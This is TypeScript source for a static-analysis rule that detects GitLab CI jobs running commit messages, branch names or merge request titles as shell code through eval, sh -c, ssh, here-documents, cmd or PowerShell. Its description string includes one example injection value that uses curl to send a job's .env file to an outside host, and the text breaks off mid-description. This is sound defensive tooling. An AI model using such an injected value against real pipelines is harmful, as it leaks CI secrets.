import { detailNote, inside } from '../rule.js';
import { inScript, lineAtOffset } from '../script-checks.js';
import { hereStringAt, parsePowerShell, pipedScripts, TYPE_CONSTRAINT } from '../powershell.js';
import { scriptParts, type ScriptDialect } from '../script-dialect.js';
import { basename, effectiveWords, gitSubcommand, gitTextOutput, parseShell, type GitText, type ShellCommand, type ShellWord } from '../shell.js';
import { get, isYMap, text, type YMap, type YNode } from '../yaml/tree.js';
import { ownerFixes } from './conditions.js';
import { scriptDialect } from './shells.js';
import { extendsOrder, gitlabRule, lineOf, pipeline, pipelineScripts, readPipeline, variableScopes, variableValue, type Pipeline } from './pipeline.js';

/**
 * Predefined variables whose text someone without access to the project's CI/CD settings
 * writes: a commit message, a branch or tag name, a merge request's title. Git allows
 * `$(...)`, `;` and quotes in branch and tag names. The slugs (CI_COMMIT_REF_SLUG) are
 * reduced to [a-z0-9-] by GitLab and are not among them.
 */
const WRITTEN_BY: Record<string, string> = {
  CI_COMMIT_MESSAGE: 'the commit message',
  CI_COMMIT_TITLE: 'the commit message',
  CI_COMMIT_DESCRIPTION: 'the commit message',
  CI_COMMIT_AUTHOR: "the commit's author",
  CI_COMMIT_BRANCH: 'the branch name',
  CI_COMMIT_REF_NAME: 'the branch or tag name',
  CI_COMMIT_TAG: 'the tag name',
  CI_COMMIT_TAG_MESSAGE: 'the tag message',
  CI_MERGE_REQUEST_TITLE: 'the merge request title',
  CI_MERGE_REQUEST_DESCRIPTION: 'the merge request description',
  CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: "the merge request's source branch name",
  CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME: "the pull request's source branch name",
  // The profile name of whoever started the pipeline: free text. Their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-`.
  GITLAB_USER_NAME: 'the display name of the user who started the pipeline',
};

/**
 * Tags are pushed by members allowed to (often only maintainers, for protected tags): a
 * smaller circle than who writes a branch or a merge request. So is who starts a pipeline
 * of the project (a fork's merge request runs in the project only when a member starts it).
 */
const MEMBERS_ONLY = new Set(['CI_COMMIT_TAG', 'CI_COMMIT_TAG_MESSAGE', 'GITLAB_USER_NAME']);

/** Text a contributor writes as a job reads it: a predefined variable, or what a git command prints of the commits (`$(git log -1 --pretty=%B)`). */
interface Written {
  /** How a message names it: `$CI_COMMIT_MESSAGE`, `$(git log -1 --pretty=%B)`. */
  readonly what: string;
  /** Who writes it, for a message: 'the commit message'. */
  readonly by: string;
  /** Written only by members allowed to push tags: reported as medium. */
  readonly members?: boolean;
}

const predefined = (name: string): Written | undefined =>
  name in WRITTEN_BY ? { what: `$${name}`, by: WRITTEN_BY[name]!, ...(MEMBERS_ONLY.has(name) ? { members: true } : {}) } : undefined;
const severityOf = (source: Written) => (source.members ? { severity: 'medium' as const } : {});

/** Who writes what git prints (the name of the branch checked out aside, which HEAD_BRANCH tells). */
const GIT_WRITTEN: Readonly<Record<Exclude<GitText, 'branch'>, string>> = {
  message: 'the commit message',
  author: "the commit's author",
  committer: "the commit's committer",
  refs: 'a branch or tag name',
};

/**
 * Key of a shell's carriers (no variable's name) for the branch the job has checked out
 * under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`). GitLab checks
 * out the commit, HEAD detached: until then `git rev-parse --abbrev-ref HEAD` prints `HEAD`,
 * and after `git checkout main` the name the job itself wrote.
 */
const HEAD_BRANCH = '\0HEAD';

/** The text a command substitution's script prints that a contributor wrote, named by the substitution as written. */
function substitutionSource(command: string, carriers: ReadonlyMap<string, Written>): Written | undefined {
  const text = gitTextOutput(command);
  if (!text) return undefined;
  const written = command.trim().replace(/\s+/g, ' ');
  const what = `$(${written.length > 60 ? `${written.slice(0, 59)}…` : written})`;
  if (text !== 'branch') return { what, by: GIT_WRITTEN[text] };
  const head = carriers.get(HEAD_BRANCH);
  return head ? { ...head, what } : undefined;
}

/** Shells whose `-c` option runs its argument as a script, and su, which hands its `-c` argument to one. */
const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'su']);

/**
 * Forms of expansion beyond the POSIX shell's `$NAME`, read for the sinks of Windows:
 * `percent`, cmd's `%NAME%` (expanded by cmd itself, whatever quotes the outer shell
 * wrote around it); `env`, PowerShell's `$env:NAME` and `${env:NAME}`.
 */
interface WindowsForms {
  percent?: boolean;
  env?: boolean;
  /**
   * PowerShell's own text (Invoke-Expression's): a backtick escapes the next character and
   * substitutes no command. `$NAME` is read there too: GitLab's runner sets each CI/CD
   * variable as a variable of the script as well as in its environment.
   */
  powershell?: boolean;
}

/**
 * What a word expands directly, as written in the script from `offset`, outside single
 * quotes and not escaped: the variables (`$NAME`, `${NAME...}`), and the scripts of its
 * command substitutions (`$(...)`, backticks), whose output becomes part of the text. What
 * a substitution expands inside is its own argument, not part of the text.
 * Windows variable names, which Windows takes in any case, are given in upper case;
 * PowerShell has no backtick substitution (a backtick escapes there).
 */
function expansionsOf(script: string, offset: number, forms: WindowsForms = {}): { names: string[]; commands: string[] } {
  const names: string[] = [];
  const commands: string[] = [];
  let quote: "'" | '"' | undefined;
  let depth = 0;
  let opened = 0;
  let backtick = -1;
  // A PowerShell here-string: `@'...'@` expands nothing; `@"..."@` expands up to its closing line, quotes being text there.
  const here = forms.powershell ? hereStringAt(script, offset) : undefined;
  if (here && !here.expandable) return { names, commands };
  for (let i = here ? here.start : offset; i < (here ? here.end : script.length); i++) {
    const c = script[i]!;
    if (c === '%' && forms.percent) {
      const name = /^%([A-Za-z_]\w*)%/.exec(script.slice(i, i + 80));
      if (name) {
        names.push(name[1]!.toUpperCase());
        i += name[0].length - 1;
        continue;
      }
    }
    if (quote === "'") {
      if (c === "'") quote = undefined;
      continue;
    }
    if (c === (forms.powershell ? '`' : '\\')) {
      i++;
      continue;
    }
    if (here && depth === 0 && (c === "'" || c === '"')) continue;
    if (!here && !quote && depth === 0 && backtick < 0 && /[\s;&|<>()]/.test(c)) break;
    if (c === "'" && !quote && depth === 0) quote = "'";
    else if (c === '"' && depth === 0) quote = quote ? undefined : '"';
    else if (c === '`' && depth === 0) {
      if (backtick < 0) backtick = i;
      else {
        commands.push(script.slice(backtick + 1, i));
        backtick = -1;
      }
    } else if (c === '$' && script[i + 1] === '(') {
      if (depth++ === 0) opened = i;
      i++;
    } else if (c === '(' && depth > 0) depth++;
    else if (c === ')' && depth > 0) {
      if (--depth === 0 && backtick < 0) commands.push(script.slice(opened + 2, i));
    } else if (c === '$' && depth === 0 && backtick < 0) {
      const env = forms.env ? /^\$(?:\{env:([A-Za-z_]\w*)\}|env:([A-Za-z_]\w*))/i.exec(script.slice(i, i + 80)) : null;
      const name = /^\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/.exec(script.slice(i, i + 80));
      if (env) names.push((env[1] ?? env[2]!).toUpperCase());
      else if (name) names.push(name[1] ?? name[2]!);
    }
  }
  return { names, commands };
}

const directExpansions = (script: string, offset: number, forms?: WindowsForms): string[] => expansionsOf(script, offset, forms).names;

/**
 * What a here-document's body expands (its delimiter unquoted), with offsets: the variables
 * (`$NAME`, `${NAME...}`) and the scripts of the command substitutions (`$(...)`, backticks)
 * not escaped, wherever they are, quotes being text there.
 */
function bodyExpansions(script: string, start: number, end: number): { names: Array<{ name: string; offset: number }>; commands: Array<{ command: string; offset: number }> } {
  const names: Array<{ name: string; offset: number }> = [];
  const commands: Array<{ command: string; offset: number }> = [];
  const body = script.slice(start, end);
  // The closing backtick of the last substitution read: no opening one.
  let closed = -1;
  for (const match of body.matchAll(/(\\*)(?:\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*)|(\())|(`))/g)) {
    if (match[1]!.length % 2 === 1) continue;
    const offset = start + match.index + match[1]!.length;
    if (match[2] ?? match[3]) names.push({ name: match[2] ?? match[3]!, offset });
    else if (match[5]) {
      if (offset - start <= closed) continue;
      closed = body.indexOf('`', offset - start + 1);
      if (closed >= 0) commands.push({ command: body.slice(offset - start + 1, closed), offset });
      else closed = body.length;
    } else {
      let depth = 0;
      for (let k = offset - start + 1; k < body.length; k++) {
        if (body[k] === '(') depth++;
        else if (body[k] === ')' && --depth === 0) {
          commands.push({ command: body.slice(offset - start + 2, k), offset });
          break;
        }
      }
    }
  }
  return { names, commands };
}

/** ssh's options that take a value (`-i key`, `-p 22`, `-o Option=value`). */
const SSH_VALUE_OPTIONS = /^-[46AaCfGgKkMNnqsTtVvXxYy]*[BbcDEeFIiJLlmOoPpQRSWw]$/;

/** The words of an ssh command after its destination: the remote command, which the remote user's shell parses. */
function sshCommand(words: readonly ShellWord[]): ShellWord[] {
  let k = 1;
  while (k < words.length && words[k]!.text.startsWith('-')) k += SSH_VALUE_OPTIONS.test(words[k]!.text) ? 2 : 1;
  return words.slice(k + 1);
}

/** sshpass's options that take a value (`-p password`, `-f file`, `-d fd`, `-P prompt`). */
const SSHPASS_VALUE_OPTIONS = /^-[pfdP]$/;

/** The ssh command a command runs: itself, or the one sshpass (which types the password) runs; undefined for another command. */
function sshOf(words: readonly ShellWord[]): ShellWord[] | undefined {
  let from = 0;
  if (basename(words[0]?.text ?? '') === 'sshpass') {
    from = 1;
    while (from < words.length && words[from]!.text.startsWith('-')) from += SSHPASS_VALUE_OPTIONS.test(words[from]!.text) ? 2 : 1;
  }
  return basename(words[from]?.text ?? '') === 'ssh' ? words.slice(from) : undefined;
}

/** Whether the words, from a shell among them, run the script the shell reads on standard input (`bash`, `sh -s -- arg`, `su - deploy`), not a file or `-c` text. */
function shellReadsStdin(words: readonly ShellWord[]): boolean {
  const k = words.findIndex((w) => SHELLS.has(basename(w.text)));
  if (k < 0) return false;
  for (let j = k + 1; j < words.length; j++) {
    const w = words[j]!.text;
    if (/^-[a-z]*c[a-z]*$/i.test(w)) return false;
    if (w === '-' || w === '-s' || w === '--') return true;
    if (/^[-+]o$/.test(w)) j++;
    else if (!w.startsWith('-')) return basename(words[k]!.text) === 'su';
  }
  return true;
}

/** Who runs what a command reads on standard input as shell code: a shell reading its script there, or ssh's remote shell (ssh without a remote command, or with such a shell as one). */
function stdinShell(words: readonly ShellWord[]): string | undefined {
  const ssh = sshOf(words);
  if (ssh) {
    // The remote shell parses the remote command again: `ssh host 'sudo bash -s'` is three words there.
    const remote = sshCommand(ssh).flatMap((w) => w.text.split(/\s+/).filter(Boolean).map((text) => ({ text, offset: w.offset })));
    return remote.length === 0 || shellReadsStdin(remote) ? SSH_SINK : undefined;
  }
  return shellReadsStdin(words) ? `${basename(words.find((w) => SHELLS.has(basename(w.text)))!.text)} (a here-document)` : undefined;
}

/**
 * Who runs the body of a here-document the command at `index` of its pipeline opens, as
 * shell code: the command itself (stdinShell), or one later in the pipeline that `cat`
 * hands the body to. Undefined when the body is data.
 */
function heredocShell(pipeline: readonly ShellCommand[], index: number): string | undefined {
  const words = effectiveWords(pipeline[index]!);
  const own = stdinShell(words);
  if (own || basename(words[0]?.text ?? '') !== 'cat') return own;
  return pipeline.slice(index + 1).map((c) => stdinShell(effectiveWords(c))).find((sink) => sink !== undefined);
}

/** Shells of Windows: cmd runs the rest of its line after /c (or /k); PowerShell runs its -Command text, Invoke-Expression its argument. */
const CMD = /^cmd(?:\.exe)?$/i;
const POWERSHELL = /^(?:pwsh|powershell)(?:\.exe)?$/i;
const INVOKE_EXPRESSION = /^(?:Invoke-Expression|iex)$/i;

/**
 * The words a Windows shell parses as code in a command, with the forms of expansion the
 * outer shell (`dialect`) and it apply there; none for another command. Invoke-Expression
 * is PowerShell's own: in a POSIX shell it is no command.
 */
function windowsSinks(words: readonly ShellWord[], dialect: ScriptDialect): Array<{ word: ShellWord; sink: string; forms: WindowsForms }> {
  const program = basename(words[0]?.text.replace(/\\/g, '/') ?? '');
  const outer: WindowsForms = dialect === 'powershell' ? { env: true, powershell: true } : {};
  if (INVOKE_EXPRESSION.test(program)) {
    // Invoke-Expression [-Command] text: PowerShell expands $env:NAME in it first.
    return dialect === 'powershell' ? words.slice(1).filter((w) => !/^-Command$/i.test(w.text)).map((word) => ({ word, sink: 'Invoke-Expression', forms: outer })) : [];
  }
  if (CMD.test(program)) {
    const at = words.findIndex((w, k) => k > 0 && /^\/[ck]$/i.test(w.text));
    // Expanded by the outer shell (bash's $NAME, PowerShell's $NAME and $env:NAME), then by cmd (%NAME%).
    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: 'cmd /c', forms: { ...outer, percent: true } }));
  }
  if (POWERSHELL.test(program)) {
    const at = words.findIndex((w, k) => k > 0 && /^-(?:c|Command)$/i.test(w.text));
    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: `${program.replace(/\.exe$/i, '')} -Command`, forms: outer }));
  }
  return [];
}

/** Commands that set shell variables (`X=...`, `export X=...`): each assignment word. */
const DECLARES = new Set(['export', 'declare', 'typeset', 'local', 'readonly']);

function assignmentsOf(command: ShellCommand): readonly ShellWord[] {
  if (command.words.length === 0) return command.assignments;
  if (!DECLARES.has(command.words[0]!.text)) return [];
  return command.words.slice(1).filter((w) => /^[A-Za-z_]\w*=/.test(w.text));
}

/**
 * The branch a command checks out, when it is `git checkout` or `git switch` of one: the
 * contributor-written text its name expands (`git checkout -B "$CI_COMMIT_REF_NAME"`,
 * `git switch "$BRANCH"`), or null for another name, a commit or a detached HEAD
 * (`git checkout main`, `git checkout "$CI_COMMIT_SHA"`, `git checkout "origin/$BRANCH"`).
 * Undefined for another command, or one that leaves HEAD where it is (`git checkout -- file`).
 */
function checkedOut(command: ShellCommand, script: string, sourceOf: (name: string) => Written | undefined): Written | null | undefined {
  const git = gitSubcommand(command);
  if (!git || (git.name !== 'checkout' && git.name !== 'switch') || git.args.some((w) => w.text === '--')) return undefined;
  const args = git.args;
  for (let k = 0; k < args.length; k++) {
    const arg = args[k]!.text;
    if (arg === '--detach' || arg === '-d') return null;
    // A branch created or reset under that name: HEAD is on it.
    const created = /^-[bBcC]$/.test(arg) || arg === '--orphan' ? args[k + 1] : undefined;
    if (created) return directExpansions(script, created.offset).map(sourceOf).find((s) => s !== undefined) ?? null;
    if (arg.startsWith('-')) continue;
    // An existing branch named by the variable alone (a remote's `origin/$BRANCH` is checked out detached).
    const whole = /^"?\$\{?[A-Za-z_]\w*\}?"?(?=[\s;&|)]|$)/.test(script.slice(args[k]!.offset, args[k]!.offset + 200));
    return (whole && directExpansions(script, args[k]!.offset).map(sourceOf).find((s) => s !== undefined)) || null;
  }
  return undefined;
}

/**
 * Words of a script that the shell reads again as code after expanding them: the arguments
 * of `eval`, the script of `sh -c '...'` (`bash -ec`, `su -c`, also after a wrapper
 * such as `docker exec ctr` or `kubectl exec pod --`), the remote command of ssh (also
 * run by sshpass), the command line of `cmd /c` and the text of PowerShell's
 * Invoke-Expression and `-Command`, each with the attacker-written variables it expands
 * directly; and the body of a here-document (delimiter unquoted) that a shell reads as its
 * script, where the outer shell expands every `$NAME` before the inner one parses it.
 * A command substitution there whose output is such text (`eval "notify $(git log -1
 * --pretty=%B)"`) is expanded by the outer shell too, and its output parsed again.
 *
 * `carriers` maps variables that hold such text to the text they hold:
 * those of the pipeline file, and those the script sets (`X="$CI_COMMIT_MESSAGE"`,
 * `X=$(git log -1 --format=%s)`, `export X=...`) before it runs them; the script's
 * assignments are written into it, so that the next script of the same shell (the job's
 * next line) sees them, and so is the branch it checks out (HEAD_BRANCH).
 */
function* injections(script: string, carriers: Map<string, Written> = new Map()): Generator<{ offset: number; expansion: string; source: Written; sink: string }> {
  const sourceOf = (name: string) => predefined(name) ?? carriers.get(name);
  const pipelines = parseShell(script);
  // Bodies of here-documents a shell runs with the outer shell's expansions: read whole below, not command by command.
  const expandedBodies: Array<[number, number]> = [];
  for (const pipeline of pipelines) {
    pipeline.forEach((command, index) => {
      for (const doc of command.heredocs ?? []) if (!doc.quoted && heredocShell(pipeline, index)) expandedBodies.push([doc.start, doc.end]);
    });
  }
  const inExpandedBody = (offset: number) => expandedBodies.some(([from, to]) => offset >= from && offset < to);
  for (const pipeline of pipelines) for (let index = 0; index < pipeline.length; index++) {
    const command = pipeline[index]!;
    for (const doc of command.heredocs ?? []) {
      const shell = doc.quoted ? undefined : heredocShell(pipeline, index);
      if (!shell) continue;
      const reported = new Set<string>();
      const { names, commands } = bodyExpansions(script, doc.start, doc.end);
      const found = [
        ...names.map(({ name, offset }) => ({ offset, expansion: `$${name}`, source: sourceOf(name) })),
        ...commands.map(({ command: text, offset }) => ({ offset, source: substitutionSource(text, carriers) })).map((f) => ({ ...f, expansion: f.source?.what ?? '' })),
      ].sort((x, y) => x.offset - y.offset);
      for (const { offset, expansion, source } of found) {
        if (!source || reported.has(expansion)) continue;
        reported.add(expansion);
        yield { offset, expansion, source, sink: shell };
      }
    }
    if (inExpandedBody(command.offset)) continue;
    for (const word of assignmentsOf(command)) {
      const name = word.text.slice(0, word.text.indexOf('='));
      const { names, commands } = expansionsOf(script, word.offset);
      const source = names.map(sourceOf).find((s) => s !== undefined) ?? commands.map((c) => substitutionSource(c, carriers)).find((s) => s !== undefined);
      if (source && !(name in WRITTEN_BY)) carriers.set(name, source);
      else carriers.delete(name);
    }
    const head = checkedOut(command, script, sourceOf);
    if (head) carriers.set(HEAD_BRANCH, head);
    else if (head === null) carriers.delete(HEAD_BRANCH);
    const words = effectiveWords(command);
    const reread: Array<{ word: ShellWord; sink: string; forms?: WindowsForms }> = [];
    if (basename(words[0]?.text ?? '') === 'eval') reread.push(...words.slice(1).map((word) => ({ word, sink: 'eval' })));
    const ssh = sshOf(words);
    if (ssh) reread.push(...sshCommand(ssh).map((word) => ({ word, sink: SSH_SINK })));
    reread.push(...windowsSinks(words, 'posix'));
    for (let k = 0; k < words.length; k++) {
      const shell = basename(words[k]!.text);
      if (!SHELLS.has(shell)) continue;
      // The options up to the one that holds c (-c, -ec, -lc), then the script.
      let option = k + 1;
      const holdsC = (text: string) => /^-[a-z]*c[a-z]*$/i.test(text);
      while (option < words.length && /^--?[a-z][\w-]*$/i.test(words[option]!.text) && !holdsC(words[option]!.text)) option++;
      const script = holdsC(words[option]?.text ?? '') ? words[option + 1] : undefined;
      if (script) reread.push({ word: script, sink: `${shell} -c` });
    }
    const reported = new Set<string>();
    for (const { word, sink, forms } of reread) {
      const { names, commands } = expansionsOf(script, word.offset, forms);
      const found = [
        ...names.map((name) => ({ expansion: `$${name}`, source: sourceOf(name) })),
        ...commands.map((text) => substitutionSource(text, carriers)).map((source) => ({ expansion: source?.what ?? '', source })),
      ];
      for (const { expansion, source } of found) {
        if (!source || reported.has(expansion)) continue;
        reported.add(expansion);
        yield { offset: word.offset, expansion, source, sink };
      }
    }
  }
}

/** PowerShell's expansions in a word it passes on: `$NAME`, `${NAME}`, `$env:NAME`, `$(...)`, in double quotes or bare; a backtick escapes. */
const POWERSHELL_FORMS: WindowsForms = { env: true, powershell: true };

/** A PowerShell assignment before a command's offset (`$msg = `, `$env:MSG = `, `${env:MSG} = `, `[string]$msg = `): the variable's name, and whether it is set in the environment. */
const POWERSHELL_ASSIGNMENT = new RegExp(String.raw`(?:^|[\n;{])\s*(?:${TYPE_CONSTRAINT.source}\s*)*\$(?:\{(env:|(?:script|global|local):)?([A-Za-z_]\w*)\}|(env:|(?:script|global|local):)?([A-Za-z_]\w*))\s*[-+]?=\s*$`, 'i');

function powerShellAssigned(script: string, offset: number): { name: string; env: boolean } | undefined {
  const before = script.slice(Math.max(0, offset - 200), offset);
  const match = POWERSHELL_ASSIGNMENT.exec(before);
  if (!match) return undefined;
  return { name: (match[2] ?? match[4]!).toUpperCase(), env: /^env:$/i.test(match[1] ?? match[3] ?? '') };
}

/**
 * Where a finding on a word goes: the word's start, or in a here-string (whose lines run on
 * below its opener) the first place its text names the expansion (`$env:NAME`, `${NAME}`,
 * `$(git log ...)`), in any case, as PowerShell reads names.
 */
function withinHereString(script: string, offset: number, expansion: string): number {
  const here = hereStringAt(script, offset);
  if (!here) return offset;
  const body = script.slice(here.start, here.end);
  const name = /^\$([A-Za-z_]\w*)$/.exec(expansion)?.[1];
  const at = name ? new RegExp(`\\$\\{?(?:env:)?${name}\\b`, 'i').exec(body)?.index : body.indexOf(expansion);
  return at === undefined || at < 0 ? offset : here.start + at;
}

/**
 * What `injections` finds, in a script PowerShell runs (a job on a Windows runner).
 * PowerShell expands `$NAME`, `${NAME}`, `$env:NAME` and `$(...)` in a double-quoted or
 * bare word before the program gets it (GitLab's runner sets each CI/CD variable as a
 * variable of the script as well as in its environment), not in a single-quoted one nor
 * after a backtick; `\` escapes nothing. So a contributor's text PowerShell expands into the
 * script of `bash -c "..."` (MSYS2's `C:\msys64\usr\bin\bash -lc "..."`), the remote command
 * of ssh, the text of Invoke-Expression, `cmd /c` or `pwsh -Command` is code there; left to
 * bash (`bash -c 'eval "$CI_COMMIT_TITLE"'`, `` `$ ``), it is expanded by bash, which reads
 * it as code only where its own script says so: that script is read as POSIX shell
 * (scriptParts), with the variables of the environment. Variable names are read in any
 * case, as PowerShell does. `carriers` gets the variables the script sets from such text
 * (`$title = $env:CI_MERGE_REQUEST_TITLE`, `$msg = git log -1 --format=%s`).
 */
function* powerShellInjections(script: string, carriers: Map<string, Written> = new Map()): Generator<{ offset: number; expansion: string; source: Written; sink: string }> {
  const carried = (name: string) => {
    const upper = name.toUpperCase();
    for (const [key, value] of carriers) if (key.toUpperCase() === upper) return value;
    return undefined;
  };
  const sourceOf = (name: string) => predefined(name.toUpperCase()) ?? carried(name);
  const named = (name: string) => (predefined(name.toUpperCase()) ? `$${name.toUpperCase()}` : `$${name}`);
  // What the environment carries, for the POSIX scripts the job hands to bash: the file's variables and those set with $env:NAME.
  const environment = new Map([...carriers].filter(([key]) => key !== HEAD_BRANCH));
  const pipelines = parsePowerShell(script);
  const starts = pipelines.flat().map((c) => c.offset);
  // The strings a pipeline hands to Invoke-Expression or a shell's standard input (`@"...."@ | bash`), as words of the command that writes them.
  const piped = new Map<ShellCommand, Array<{ word: ShellWord; sink: string; forms: WindowsForms }>>();
  for (const pipeline of pipelines)
    for (const { writer, words, runner, posix } of pipedScripts(pipeline))
      piped.set(writer, [...(piped.get(writer) ?? []), ...words.map((word) => ({ word, sink: posix ? `${runner} (on its standard input)` : runner, forms: POWERSHELL_FORMS }))]);
  for (const command of pipelines.flat()) {
    const assigned = command.captured ? powerShellAssigned(script, command.offset) : undefined;
    if (assigned && !(assigned.name in WRITTEN_BY)) {
      // `$x = "...$env:NAME..."` (read as Write-Output of the value), or `$x = git log ...`, the command's output.
      const end = starts.find((s) => s > command.offset) ?? script.length;
      const value = command.words[0]?.text === 'Write-Output' ? command.words[1] : undefined;
      const { names, commands } = value ? expansionsOf(script, value.offset, POWERSHELL_FORMS) : { names: [], commands: [script.slice(command.offset, end).replace(/[\s;]+$/, '')] };
      const source = names.map(sourceOf).find((x) => x !== undefined) ?? commands.map((c) => substitutionSource(c, carriers)).find((x) => x !== undefined);
      for (const map of assigned.env ? [carriers, environment] : [carriers]) {
        for (const key of [...map.keys()]) if (key.toUpperCase() === assigned.name) map.delete(key);
        if (source) map.set(assigned.name, source);
      }
    }
    const words = command.words;
    const reread: Array<{ word: ShellWord; sink: string; forms: WindowsForms }> = [...(piped.get(command) ?? [])];
    const ssh = sshOf(words);
    if (ssh) reread.push(...sshCommand(ssh).map((word) => ({ word, sink: SSH_SINK, forms: POWERSHELL_FORMS })));
    reread.push(...windowsSinks(words, 'powershell'));
    const shell = basename(words[0]?.text ?? '').replace(/\.exe$/i, '').toLowerCase();
    if (SHELLS.has(shell)) {
      let option = 1;
      const holdsC = (text: string) => /^-[a-z]*c[a-z]*$/i.test(text);
      while (option < words.length && /^--?[a-z][\w-]*$/i.test(words[option]!.text) && !holdsC(words[option]!.text)) option += /^[-+][a-z]*o$/i.test(words[option]!.text) ? 2 : 1;
      const inner = holdsC(words[option]?.text ?? '') ? words[option + 1] : undefined;
      if (inner) reread.push({ word: inner, sink: `${shell} -c`, forms: POWERSHELL_FORMS });
    }
    const reported = new Set<string>();
    for (const { word, sink, forms } of reread) {
      const { names, commands } = expansionsOf(script, word.offset, forms);
      const found = [
        ...names.map((name) => ({ expansion: named(name), source: sourceOf(name) })),
        ...commands.map((text) => substitutionSource(text, carriers)).map((source) => ({ expansion: source?.what ?? '', source })),
      ];
      for (const { expansion, source } of found) {
        if (!source || reported.has(expansion)) continue;
        reported.add(expansion);
        yield { offset: withinHereString(script, word.offset, expansion), expansion, source, sink };
      }
    }
  }
  // The POSIX scripts handed to bash, as bash reads them once PowerShell has expanded what it expands there:
  // what PowerShell expanded is text of bash's script (reported above), what it left is bash's to expand.
  for (const part of scriptParts(script, 'powershell').slice(1)) {
    let text = part.text;
    for (const [from, to] of part.expanded ?? []) text = text.slice(0, from) + '_'.repeat(to - from) + text.slice(to);
    for (const found of injections(text, new Map(environment))) yield { ...found, offset: part.at(found.offset) };
  }
}

/**
 * Variables of the pipeline file whose value carries one of those texts (`BRANCH:
 * $CI_COMMIT_BRANCH`): GitLab expands it when it creates the job, so the job's $BRANCH is
 * the branch name. A variable with `expand: false` keeps the text `$CI_COMMIT_BRANCH`.
 */
function carriers(p: Pipeline): Map<string, Written> {
  const out = new Map<string, Written>();
  const maps = [...variableScopes(p).map((scope) => scope.map), ...triggerVariables(p)];
  for (const map of maps) {
    for (const entry of map.pairs) {
      const { value } = variableValue(entry.value);
      if (typeof value !== 'string' || text(get(entry.value, 'expand')) === 'false') continue;
      const source = [...value.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => m[1]!).find((name) => name in WRITTEN_BY);
      if (source && !(entry.key in WRITTEN_BY)) out.set(entry.key, predefined(source)!);
    }
  }
  return out;
}

/**
 * For the file of a child pipeline: the `variables:` that the trigger jobs starting it pass
 * down (each job's own and those it extends, and the top-level ones of its file unless
 * `inherit: variables: false`; none with `trigger: forward: yaml_variables: false`), which
 * the child's jobs get, expanded in the parent (`BRANCH: $CI_COMMIT_BRANCH`). A `trigger:` a
 * template writes is passed by each job that extends it.
 */
function triggerVariables(p: Pipeline): YMap[] {
  const maps: YMap[] = [];
  for (const trigger of p.triggers ?? []) {
    const parent = readPipeline(trigger.text, () => {}, { gitlab: { files: trigger.files, ...(trigger.triggers ? { triggers: trigger.triggers } : {}) } });
    const job = parent?.jobs.find((j) => j.name === trigger.job);
    if (!parent || !job) continue;
    const starters = parent.jobs.filter((j) => j.node === job.node || extendsOrder(parent, j.node).includes(job.node));
    for (const starter of starters) {
      const order = extendsOrder(parent, starter.node);
      // `trigger: forward: yaml_variables: false` passes none; `inherit: variables: false` keeps the top-level ones.
      const setting = (path: string[]) => order.map((node) => path.reduce<YNode | null | undefined>((at, key) => get(at, key), node)).find((v) => v != null);
      if (text(setting(['trigger', 'forward', 'yaml_variables'])) === 'false') continue;
      const global = text(setting(['inherit', 'variables'])) === 'false' ? [] : [parent.root];
      for (const node of [...global, ...order]) {
        const map = get(node, 'variables');
        if (isYMap(map)) maps.push(map);
      }
    }
  }
  return maps;
}

const SSH_SINK = "ssh's remote shell";
/** Where the text of a variable comes from, when it is not the variable itself. */
const via = (expansion: string, source: Written) => (expansion === source.what ? '' : ` (set from ${source.what})`);
const where = (sink: string) => (sink === SSH_SINK ? 'on the host ssh logs in to' : 'in the job');

const scriptInjection = gitlabRule({
  id: 'iac/gitlab-script-injection',
  title: 'Commit or merge request text run as shell code in CI',
  description:
    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME, or $NAME: GitLab\'s runner sets each variable in the PowerShell script too). A job on a Windows runner runs its script in PowerShell, which expands `$NAME`, `${NAME}`, `$env:NAME` and `$(...)` in a double-quoted or bare word before the program gets it (a backslash escapes nothing there): `bash -c "notify $CI_COMMIT_TITLE"` (MSYS2\'s `C:\\msys64\\usr\\bin\\bash -lc "..."`) hands bash a script with the title in it, as `ssh host "..."` does the remote shell; in single quotes or after a backtick (`bash -c \'notify "$CI_COMMIT_TITLE"\'`) bash gets the variable and expands it as data, and bash\'s script is read as POSIX shell for its own eval or sh -c; a variable of the PowerShell script set from such text (`$title = $env:CI_MERGE_REQUEST_TITLE`, `$subject = git log -1 --format=%s`) carries it too, and only one set with `$env:NAME = ...` reaches bash\'s environment. A string or here-string piped into Invoke-Expression or into a shell reading its script on standard input (`@"...$env:CI_COMMIT_TITLE..."@ | bash`, `"deploy $env:CI_COMMIT_REF_NAME" | iex`) is code there as well (a literal here-string, `@\'...\'@`, expands nothing for PowerShell and is bash\'s script as written), and a variable set with a type (`[string]$title = $env:CI_MERGE_REQUEST_TITLE`) carries the text as an untyped one does. GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too (in a child pipeline, also one the trigger job passes down: its own `variables:`, those it extends, its file\'s top-level ones), and so does a shell variable a line of the job\'s 